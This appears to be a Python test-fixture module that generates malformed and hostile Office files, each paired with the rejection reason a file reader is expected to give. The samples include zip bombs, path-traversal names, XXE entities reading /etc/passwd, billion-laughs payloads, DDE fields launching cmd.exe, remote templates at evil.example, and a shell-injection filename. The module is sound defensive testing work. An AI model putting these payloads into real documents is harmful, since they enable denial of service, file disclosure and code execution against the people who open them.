"""Files that no reader should trust, each built by code, with what must be said of it.

A case is the file's name, the kind it is known as, words of the English reason, and its builder, which
returns bytes or makes at a path what no bytes can be.
"""

from __future__ import annotations

import os
import random
import socket
import stat
import struct
from collections.abc import Callable, Mapping
from contextlib import chdir
from dataclasses import dataclass, replace
from pathlib import Path

import word_paper as paper
from containers import Line, compound, deflated, raw_zip, zeros
from office_files import (
    DOCUMENT,
    MICROSOFT,
    SHEET,
    docx,
    docx_with,
    edited,
    lines_of,
    packed,
    parts_of,
    related,
    with_body,
    with_cells,
    with_field,
    xlsx,
    xlsx_with,
)

from generator.foreign.kinds import Kind

_MIB = 1024 * 1024


@dataclass(frozen=True)
class Case:
    """One file: its reason holds ``says``; a case that is read nevertheless says nothing."""

    name: str
    kind: Kind
    says: str
    build: Callable[[], bytes] | None = None
    make: Callable[[Path], None] | None = None

    def put(self, folder: Path) -> Path:
        """Make the file in a folder of its own."""
        path = folder / self.name
        if self.make:
            self.make(path)
        elif self.build:
            path.write_bytes(self.build())
        return path


def noise(size: int) -> bytes:
    """Return bytes that do not pack, the same ones each time."""
    return random.Random(1).randbytes(size)  # noqa: S311 - nothing secret


# -- archives ---------------------------------------------------------------------------------------------


def flat_bomb() -> bytes:
    return raw_zip([*lines_of(docx()), Line(b"word/media/a.bin", packed=zeros(80 * _MIB), size=80 * _MIB)])


def dense_bomb() -> bytes:
    return raw_zip([*lines_of(docx()), Line(b"word/media/a.bin", packed=zeros(16 * _MIB), size=16 * _MIB)])


def sum_bomb() -> bytes:
    thin = deflated(noise(256 * 1024))
    heavy = [Line(b"word/media/%d.bin" % i, packed=thin, size=40 * _MIB) for i in range(10)]
    return raw_zip([*lines_of(docx()), *heavy])


def overlapping_bomb() -> bytes:
    lines = lines_of(docx())
    kernel = Line(b"word/media/0.bin", noise(_MIB))
    again = [
        Line(b"word/media/0.bin", kernel.data, at=len(lines)) for _ in range(20)
    ]  # one local header, claimed by many
    return raw_zip([*lines, kernel, *again])


def nested_bomb() -> bytes:
    data = packed({"0.bin": bytes(8 * _MIB)})
    for level in range(5):
        data = packed({f"{level}-{i}.zip": data for i in range(10)})
    return data


def lying_size() -> bytes:
    lines = [line for line in lines_of(docx()) if line.name != DOCUMENT.encode()]
    return raw_zip([*lines, Line(DOCUMENT.encode(), packed=zeros(16 * _MIB), size=100)])


def wrong_crc() -> bytes:
    lines = lines_of(docx())
    return raw_zip([replace(line, crc=7) if line.name == DOCUMENT.encode() else line for line in lines])


def member(**said: object) -> bytes:
    return raw_zip([*lines_of(docx()), Line(**{"name": b"word/a.xml", "data": b"<a/>", **said})])  # type: ignore[arg-type]


ARCHIVES = (
    Case("flat bomb.docx", Kind.DOCX, "inflates to more than 64 MiB", flat_bomb),
    Case("dense bomb.docx", Kind.DOCX, "as in a zip bomb", dense_bomb),
    Case("sum bomb.docx", Kind.DOCX, "more than the 256 MiB allowed", sum_bomb),
    Case("overlapping bomb.docx", Kind.DOCX, "overlap", overlapping_bomb),
    Case("nested bomb.docx", Kind.ZIP, "unpack it", nested_bomb),
    Case("lying size.docx", Kind.DOCX, "damaged or incomplete", lying_size),
    Case("wrong crc.docx", Kind.DOCX, "damaged or incomplete", wrong_crc),
    Case(
        "many members.docx",
        Kind.DOCX,
        "more than 2000 members",
        lambda: raw_zip([*lines_of(docx()), *(Line(b"a%d" % i) for i in range(5000))]),
    ),
    Case("upwards.docx", Kind.DOCX, "leads out of its folder", lambda: member(name=b"../../evil.xml")),
    Case("absolute.docx", Kind.DOCX, "leads out of its folder", lambda: member(name=b"/etc/cron.d/evil")),
    Case("drive.docx", Kind.DOCX, "leads out of its folder", lambda: member(name=b"C:/evil.xml")),
    Case("backslash.docx", Kind.DOCX, "leads out of its folder", lambda: member(name=b"word\\evil.xml")),
    Case(
        "chinese upwards.docx",
        Kind.DOCX,
        "(../恶意.xml)",
        lambda: member(name="../恶意.xml".encode("gbk")),
    ),
    Case("encrypted member.docx", Kind.DOCX, "encrypted", lambda: member(flags=1)),
    Case("link member.docx", Kind.DOCX, "holds a link", lambda: member(mode=stat.S_IFLNK | 0o777)),
    Case("bzip2 member.docx", Kind.DOCX, "way that Office does not use", lambda: member(method=12)),
    Case("truncated.docx", Kind.DOCX, "damaged or incomplete", lambda: docx()[: len(docx()) * 2 // 3]),
    Case("zero tail.xlsx", Kind.XLSX, "damaged or incomplete", lambda: xlsx()[:4000] + bytes(4000)),
    Case("half directory.docx", Kind.DOCX, "damaged or incomplete", lambda: docx()[:-40]),
)

# -- XML ------------------------------------------------------------------------------------------------

_LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha">{}]>'.format(
    "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
)
_OUTSIDE = (
    '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://127.0.0.1/b"> %b;]>'
)


def declaring(data: bytes, part: str, doctype: str) -> bytes:
    def edit(xml: bytes) -> bytes:
        start, end, rest = xml.partition(b"?>") if xml.startswith(b"<?xml") else (b"", b"", xml)
        return start + end + doctype.encode() + rest.replace("甲".encode(), b"&a;")

    return edited(data, part, edit)


def utf16(data: bytes, doctype: str = "") -> bytes:
    def edit(xml: bytes) -> bytes:
        text = xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return (doctype + text if doctype else text).encode("utf-16")

    return edited(data, DOCUMENT, edit)


def deep() -> bytes:
    return with_body("<w:p>" + "<w:ins>" * 5_000 + "</w:ins>" * 5_000 + "</w:p>")


def wide() -> bytes:
    return edited(
        docx(), DOCUMENT, lambda x: x.replace(b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="1000000"/>')
    )


def long_text() -> bytes:
    words = noise(6 * _MIB).hex()
    return paper.document(paper.table(paper.field("title", "标题", words[: 9 * _MIB])), {"fc.form": "visit"})


XML = (
    Case("laughs.docx", Kind.DOCX, "XML entities", lambda: declaring(docx(), DOCUMENT, _LAUGHS)),
    Case("laughs.xlsx", Kind.XLSX, "XML entities", lambda: declaring(xlsx(), "xl/workbook.xml", _LAUGHS)),
    Case("outside.docx", Kind.DOCX, "XML entities", lambda: declaring(docx(), DOCUMENT, _OUTSIDE)),
    Case("outside.xlsx", Kind.XLSX, "XML entities", lambda: declaring(xlsx(), SHEET, _OUTSIDE)),
    Case(
        "outside in types.docx",
        Kind.DOCX,
        "XML entities",
        lambda: declaring(docx(), "[Content_Types].xml", _OUTSIDE),
    ),
    Case("utf-16 laughs.docx", Kind.DOCX, "XML entities", lambda: utf16(docx(), _LAUGHS)),
    Case("deep.docx", Kind.DOCX, "cannot be read", deep),
    Case("wide.docx", Kind.DOCX, "", wide),
    Case("endless text.docx", Kind.UNKNOWN, "too much text", long_text),
    Case(
        "far cell.xlsx",
        Kind.XLSX,
        "cannot be read",
        lambda: with_cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    ),
    Case(
        "far row.xlsx",
        Kind.XLSX,
        "cannot be read",
        lambda: with_cells('<row r="1048576"><c><v>1</v></c></row>'),
    ),
    Case(
        "wide row.xlsx",
        Kind.XLSX,
        "cannot be read",
        lambda: with_cells(
            '<row r="9">' + "".join(f"<c><v>{i * 7919}</v></c>" for i in range(300_000)) + "</row>"
        ),
    ),
    Case(
        "huge column.xlsx",
        Kind.UNKNOWN,
        "broke off",
        lambda: with_cells('<row r="9"><c r="ZZZZZZZZ9"><v>1</v></c></row>'),
    ),
    Case(
        "missing string.xlsx",
        Kind.XLSX,
        "cannot be read",
        lambda: with_cells('<row r="9"><c r="A9" t="s"><v>99999999999</v></c></row>'),
    ),
    Case("utf-16.docx", Kind.DOCX, "", lambda: utf16(docx())),
    Case(
        "bad bytes.docx",
        Kind.DOCX,
        "cannot be read",
        lambda: edited(docx(), DOCUMENT, lambda x: x.replace("甲".encode(), b"\xff\xfe\xc0")),
    ),
    Case(
        "unknown encoding.docx",
        Kind.DOCX,
        "cannot be read",
        lambda: edited(
            docx(), DOCUMENT, lambda x: b'<?xml version="1.0" encoding="KLINGON"?>' + x.partition(b"?>")[2]
        ),
    ),
    Case(
        "no types.docx",
        Kind.DOCX,
        "",
        lambda: packed({n: d for n, d in parts_of(docx()).items() if n != "[Content_Types].xml"}),
    ),
)

# -- what runs or fetches -----------------------------------------------------------------------------------


def typed(data: bytes, old: bytes, new: bytes) -> bytes:
    return edited(data, "[Content_Types].xml", lambda xml: xml.replace(old, new))


def docm() -> bytes:
    plain, macro = b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    return typed(
        docx_with({"word/vbaProject.bin": compound({"VBA/dir": b"x"})}),
        plain.split(b".")[0] + b".document.main",
        macro,
    )


def link(xml: str) -> bytes:
    opening = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return xlsx_with({"xl/externalLinks/externalLink1.xml": f"{opening}{xml}</externalLink>".encode()})


def odf(kind: str, content: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    mimetype = Line(b"mimetype", f"application/vnd.oasis.opendocument.{kind}".encode(), method=8)
    parts = {"content.xml": f"<a>{content}</a>".encode(), "META-INF/manifest.xml": b"<m/>", **(more or {})}
    return raw_zip([mimetype, *(Line(name.encode(), data) for name, data in parts.items())])


def document_stream(flags: int = 0, text: bytes = b"") -> bytes:
    """A WordDocument stream: the first block's magic, its flags at 0x0A, and text."""
    return struct.pack("<5H", 0xA5EC, 0xC1, 0, 0, 0) + struct.pack("<H", flags) + bytes(500) + text


def records(*each: tuple[int, bytes]) -> bytes:
    """A Workbook stream: BOF, these records, EOF."""
    body = ((0x0809, bytes(16)), *each, (0x000A, b""))
    return b"".join(struct.pack("<2H", number, len(data)) + data for number, data in body)


MACROS, OLE, DDE, FETCHED = "holds macros", "OLE objects", "DDE links", "fetched from elsewhere"
ACTIVE = (
    Case("macros.docm", Kind.DOCX_OTHER, MACROS, docm),
    Case("macros named.docx", Kind.DOCX_OTHER, MACROS, docm),
    Case("macros undeclared.docx", Kind.DOCX, MACROS, lambda: docx_with({"word/vbaProject.bin": b"x"})),
    Case("macro sheet.xlsx", Kind.XLSX, MACROS, lambda: xlsx_with({"xl/macrosheets/sheet1.xml": b"<a/>"})),
    Case(
        "macros elsewhere.docx",
        Kind.DOCX,
        MACROS,
        lambda: related("vbaProject", "x.bin", mode="Internal", base=MICROSOFT),
    ),
    Case("object.docx", Kind.DOCX, OLE, lambda: docx_with({"word/embeddings/oleObject1.bin": b"x"})),
    Case("linked object.docx", Kind.DOCX, OLE, lambda: related("oleObject", "file:///C:/evil.xls")),
    Case("control.docx", Kind.DOCX, "ActiveX", lambda: docx_with({"word/activeX/activeX1.xml": b"<a/>"})),
    Case("dde.docx", Kind.DOCX, DDE, lambda: with_field("DDE", "AUTO c:\\\\windows\\\\cmd.exe /k calc")),
    Case(
        "dde simple.docx",
        Kind.DOCX,
        DDE,
        lambda: with_body('<w:p><w:fldSimple w:instr=" dde excel a b"/></w:p>'),
    ),
    Case(
        "fetched picture field.docx",
        Kind.DOCX,
        FETCHED,
        lambda: with_field(' INCLUDEPICTURE "https://evil.example/a.png" \\d'),
    ),
    Case(
        "remote template.docx",
        Kind.DOCX,
        "remote template",
        lambda: related("attachedTemplate", "https://evil.example/a.dotm"),
    ),
    Case(
        "share template.docx",
        Kind.DOCX,
        "remote template",
        lambda: related("attachedTemplate", r"\\evil\share\a.dotm"),
    ),
    Case("remote picture.docx", Kind.DOCX, FETCHED, lambda: related("image", "http://evil.example/a.png")),
    Case("frame.docx", Kind.DOCX, FETCHED, lambda: related("frame", "http://evil.example/")),
    Case("chunk.docx", Kind.DOCX, "another document", lambda: related("aFChunk", "a.html", mode="Internal")),
    Case("link.xlsx", Kind.XLSX, "other workbooks", lambda: link("<externalBook/>")),
    Case("dde.xlsx", Kind.XLSX, DDE, lambda: link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')),
    Case("macros.odt", Kind.ODT, MACROS, lambda: odf("text", more={"Basic/Standard/a.xml": b"<a/>"})),
    Case(
        "remote picture.odt",
        Kind.ODT,
        FETCHED,
        lambda: odf("text", '<draw:image xlink:href="http://evil.example/a"/>'),
    ),
    Case("dde.ods", Kind.ODS, DDE, lambda: odf("spreadsheet", '<office:dde-source office:dde-item="a"/>')),
    Case(
        "macros.doc",
        Kind.DOC,
        MACROS,
        lambda: compound({"WordDocument": document_stream(), "Macros/dir": b"x"}),
    ),
    Case(
        "dde.doc",
        Kind.DOC,
        DDE,
        lambda: compound({"WordDocument": document_stream(text=b"\x13 DDEAUTO cmd \x15")}),
    ),
    Case(
        "object.doc",
        Kind.DOC,
        OLE,
        lambda: compound({"WordDocument": document_stream(), "ObjectPool/_1": b"x"}),
    ),
    Case(
        "macro sheet.xls",
        Kind.XLS,
        MACROS,
        lambda: compound({"Workbook": records((0x85, bytes([0, 0, 0, 0, 0, 1, 1, 0, 65])))}),
    ),
    Case(
        "link.xls",
        Kind.XLS,
        "other workbooks",
        lambda: compound({"Workbook": records((0x01AE, b"\1\0\5\0\0a.xls"))}),
    ),
    Case("object.rtf", Kind.RTF, OLE, lambda: rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
    Case("dde.rtf", Kind.RTF, DDE, lambda: rb"{\rtf1{\field{\*\fldinst {\b D\'44EAUTO} cmd}}}"),
    Case(
        "remote template.rtf",
        Kind.RTF,
        "remote template",
        lambda: rb"{\rtf1{\*\template http://evil.example/a}}",
    ),
)

# -- locked, or something else than the name says ------------------------------------------------------------

PASSWORD, OTHER = "has a password", "no Word or Excel form"
NAMES = (
    Case(
        "locked.docx",
        Kind.LOCKED,
        PASSWORD,
        lambda: compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}),
    ),
    Case("locked.doc", Kind.LOCKED, PASSWORD, lambda: compound({"WordDocument": document_stream(0x0100)})),
    Case("locked.xls", Kind.LOCKED, PASSWORD, lambda: compound({"Workbook": records((0x002F, bytes(54)))})),
    Case(
        "locked.odt",
        Kind.LOCKED,
        PASSWORD,
        lambda: odf("text", more={"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
    ),
    Case(
        "broken container.doc",
        Kind.CFB,
        "Save it as .docx",
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(99),
    ),
    Case(
        "container of loops.doc",
        Kind.CFB,
        "Save it as .docx",
        lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 4096,
    ),
    Case("presentation.docx", Kind.PPTX, OTHER, lambda: packed({"ppt/presentation.xml": b"<a/>"})),
    Case(
        "template.docx",
        Kind.DOCX_OTHER,
        "Save it as .docx",
        lambda: typed(docx(), b"document.main+xml", b"template.main+xml"),
    ),
    Case("archive.docx", Kind.ZIP, "unpack it", lambda: packed({"a.txt": b"a"})),
    Case(
        "pdf.docx",
        Kind.PDF,
        OTHER,
        lambda: b"%PDF-1.7\n1 0 obj<</Length 99999999999/Filter[/FlateDecode/FlateDecode]>>stream",
    ),
    Case("picture.xlsx", Kind.JPEG, OTHER, lambda: b"\xff\xd8\xff\xe0" + bytes(99)),
    Case("program.docx", Kind.UNKNOWN, OTHER, lambda: b"MZ\x90\0\3" + bytes(999)),
    Case("web page.doc", Kind.HTML, OTHER, lambda: b"<!-- a --><html><body>a</body></html>"),
    Case("comments.doc", Kind.TEXT, OTHER, lambda: b"<!-- -->" * 500 + b"x"),
    Case(
        "web archive.doc",
        Kind.OFFICE_XML,
        "Save it as .docx",
        lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related",
    ),
    Case(
        "flat.xml",
        Kind.OFFICE_XML,
        "Save it as .docx",
        lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>',
    ),
    Case("text.docx", Kind.TEXT, OTHER, lambda: "客户回访".encode("gbk")),
    Case("form.pdf", Kind.DOCX, "", docx),
    Case("form.xlsx", Kind.DOCX, "", docx),
    Case("form without ending", Kind.XLSX, "", xlsx),
    Case("empty.docx", Kind.EMPTY, "is empty", bytes),
    Case("zeros.docx", Kind.ZEROS, "nothing but zeros", lambda: bytes(9999)),
    Case("CON.docx", Kind.DOCX, "", docx),
    Case("\u202exslx.docx", Kind.DOCX, "", docx),
    Case("名" * 80 + ".docx", Kind.DOCX, "", docx),
    Case("-rf $(calc);'\".docx", Kind.DOCX, "", docx),
)

# -- what is no file ------------------------------------------------------------------------------------------


def a_socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as server, chdir(path.parent):
        server.bind(path.name)


def a_link(path: Path) -> None:
    target = path.with_name("target.docx")
    target.write_bytes(docx())
    path.symlink_to(target)


def a_huge_file(path: Path) -> None:
    with path.open("wb") as stream:
        stream.write(docx()[:3000])
        stream.truncate(1024 * _MIB)


NO_FILES = (
    Case("folder.docx", Kind.NO_FILE, "is a folder", make=Path.mkdir),
    Case("absent.docx", Kind.NO_FILE, "cannot be read", make=bool),
    Case("huge.docx", Kind.DOCX, "larger than 64 MiB", make=a_huge_file),
)
POSIX_ONLY = (
    Case("pipe.docx", Kind.NO_FILE, "is a pipe", make=os.mkfifo),
    Case("link.docx", Kind.NO_FILE, "is a link", make=a_link),
    Case("device.docx", Kind.NO_FILE, "is a link", make=lambda path: path.symlink_to("/dev/zero")),
    Case("socket.docx", Kind.NO_FILE, "is a socket", make=a_socket),
)

CASES = (*ARCHIVES, *XML, *ACTIVE, *NAMES, *NO_FILES, *(POSIX_ONLY if os.name == "posix" else ()))
